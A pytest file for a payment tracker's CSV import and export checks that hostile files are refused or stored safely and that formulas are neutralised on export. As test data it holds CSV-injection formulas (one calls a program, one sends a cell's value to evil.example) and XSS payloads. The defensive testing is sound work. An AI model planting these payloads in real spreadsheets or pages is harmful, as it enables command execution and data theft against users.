"""The corpus of bad files (tests/hostile/): each one imported as listed in tests/hostile/cases.py or
refused with its message, by the import service and by the command line; a refusal writes nothing.
Text that spreadsheets would run as a formula is stored as typed and neutralised on export.
"""

from __future__ import annotations

import csv
import io
import re
import time
import tracemalloc
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlmodel import Session, func, select

from tests.hostile.cases import CASES, HOSTILE, Case, big_upwork_file
from tracker.cli.main import main
from tracker.io.csvread import MAX_IMPORT_BYTES
from tracker.io.export import payments_csv
from tracker.io.importer import import_rows
from tracker.io.plan import ImportOptions, plan_import
from tracker.io.tables_csv import export_files
from tracker.ledger.errors import InvalidInput
from tracker.ledger.models import Client, Expense, Payment

USD = ImportOptions(rates=(("USD", "120"),))


@pytest.fixture(autouse=True)
def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Keep automatic backups and mappings in the test's own folder."""
    monkeypatch.setenv("TRACKER_DATA_DIR", str(tmp_path / "data"))
    return tmp_path / "data"


def stored(session: Session) -> tuple[int, int, int]:
    """Return how many payments, expenses and clients are stored."""
    return tuple(session.exec(select(func.count()).select_from(m)).one()  # type: ignore[return-value]
                 for m in (Payment, Expense, Client))


def test_the_table_lists_every_file_of_the_corpus() -> None:
    assert sorted(c.file for c in CASES) == sorted(p.name for p in HOSTILE.glob("*.csv"))
    assert all(p.stat().st_size < 2000 for p in HOSTILE.glob("*.csv"))  # the big one is made by tests


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.file)
def test_each_file_is_imported_or_refused_as_listed(session: Session, case: Case) -> None:
    if case.refused:
        with pytest.raises(InvalidInput) as refusal:
            plan_import(session, case.data, USD)
        assert case.refused in str(refusal.value)
        assert stored(session) == (0, 0, 0)
        return
    plan = plan_import(session, case.data, USD)
    assert {r.number: r.text() for r in plan.refused} == case.rows
    if case.rows:
        with pytest.raises(InvalidInput, match=f"Nothing was imported, because {len(case.rows)} rows"):
            import_rows(session=session, plan=plan)
        assert stored(session) == (0, 0, 0)
    result = import_rows(session=session, plan=plan, skip_invalid=bool(case.rows))
    assert (result.imported, result.duplicates, result.refused) == (case.imported, case.duplicates,
                                                                    len(case.rows))


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.file)
def test_the_command_line_says_what_was_refused_without_a_traceback(db_url: str, case: Case) -> None:
    result = CliRunner().invoke(main, ["--db", db_url, "import", str(HOSTILE / case.file), "--rate",
                                       "USD=120", "--skip-invalid"])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    if case.refused:
        assert result.exit_code == 1 and result.stderr.startswith(f"Error: {case.refused}")
    else:
        assert result.exit_code == 0, result.output
        assert result.stdout.splitlines()[-1] == (f"imported {case.imported}, duplicates {case.duplicates}, "
                                                  f"refused {len(case.rows)}")
        for number, reason in case.rows.items():
            assert f"row {number}: {reason}" in result.stderr


def import_file(session: Session, name: str) -> None:
    """Import a corpus file completely."""
    import_rows(session=session, plan=plan_import(session, (HOSTILE / name).read_bytes(), USD))


@pytest.mark.parametrize(("name", "clients", "notes"), [
    ("windows_1252.csv", ["Café Münster"], ["Café menu – week 32"]),
    ("utf16_without_mark.csv", ["নদী ডিজাইন"], ["Logo for নদী"]),
    ("bom_crlf_bengali.csv", ["নদী ডিজাইন"], ["Logo for নদী"]),
    ("formula_cells.csv", ["=cmd|' /C calc'!A0", "+Acme Ltd", "-Sign Co"],
     ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]),
    ("html_and_script.csv", ["<script>alert(1)</script>", "[x](javascript:alert(1))"],
     ['<img src=x onerror="alert(1)">', "![track](http://evil.example/pixel.png) **bold**"]),
])
def test_text_is_stored_exactly_as_the_file_has_it(session: Session, name: str, clients: list[str],
                                                  notes: list[str]) -> None:
    import_file(session, name)
    assert sorted(session.exec(select(Client.name)).all()) == sorted(clients)
    assert session.exec(select(Payment.note).order_by(Payment.id)).all() == notes


def test_exported_formulas_cannot_run_and_read_back_as_typed(session: Session, tmp_path: Path) -> None:
    import_file(session, "formula_cells.csv")
    rows = list(csv.DictReader(io.StringIO(payments_csv(session).decode("utf-8-sig"))))
    for row in rows:
        for column in ("client", "note"):
            assert not row[column].startswith(("=", "+", "-", "@")), row[column]
    assert [r["client"] for r in rows] == ["'=cmd|' /C calc'!A0", "'+Acme Ltd", "'-Sign Co"]
    from tracker.db.engine import open_session

    with open_session(f"sqlite:///{tmp_path / 'again.db'}") as again:
        plan = plan_import(again, payments_csv(session), ImportOptions())
        import_rows(session=again, plan=plan)
        names = sorted(session.exec(select(Client.name)).all())
        assert sorted(again.exec(select(Client.name)).all()) == names
        assert again.exec(select(Payment.note)).all() == session.exec(select(Payment.note)).all()


def test_every_exported_file_neutralises_formulas(session: Session) -> None:
    import_file(session, "formula_cells.csv")
    import_file(session, "html_and_script.csv")
    for name, data in export_files(session).items():
        for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))):
            risky = [cell for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
                     or (cell.startswith("-") and not re.fullmatch(r"-[\d.]+", cell))]
            assert not risky, (name, risky)


def test_a_backup_whose_file_unpacks_to_too_much_is_refused(session: Session,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from tracker.io import backup

    data = backup.backup_bytes(session)
    monkeypatch.setattr(backup, "MAX_MEMBER_BYTES", 100)  # a zip bomb, made small
    with pytest.raises(InvalidInput, match="is larger than any backup of this app"):
        backup.restore_backup(session=session, data=data)


@pytest.fixture(scope="module")
def fifty_mb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a 50 MB Upwork statement made for these tests (about 440,000 rows)."""
    return big_upwork_file(tmp_path_factory.mktemp("big") / "upwork_50mb.csv", 50 * 1024 * 1024)


def test_a_50_mb_file_is_refused_at_once_without_reading_it(db_url: str, fifty_mb: Path) -> None:
    assert fifty_mb.stat().st_size > MAX_IMPORT_BYTES
    tracemalloc.start()
    started = time.perf_counter()
    result = CliRunner().invoke(main, ["--db", db_url, "import", str(fifty_mb), "--rate", "USD=120"])
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert result.exit_code == 1
    assert result.stderr.startswith("Error: This file is 51 MB; files up to 25 MB can be imported. Export "
                                    "a shorter period (a year at a time) and import each file.")
    assert seconds < 5 and peak < 10 * 1024 * 1024  # the file was never read into memory


def test_a_50_mb_upload_is_refused_before_it_is_parsed(session: Session, fifty_mb: Path) -> None:
    data = fifty_mb.read_bytes()
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(InvalidInput, match="This file is 51 MB; files up to 25 MB can be imported"):
        plan_import(session, data, USD)
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert seconds < 1 and peak < 1024 * 1024
    assert stored(session) == (0, 0, 0)
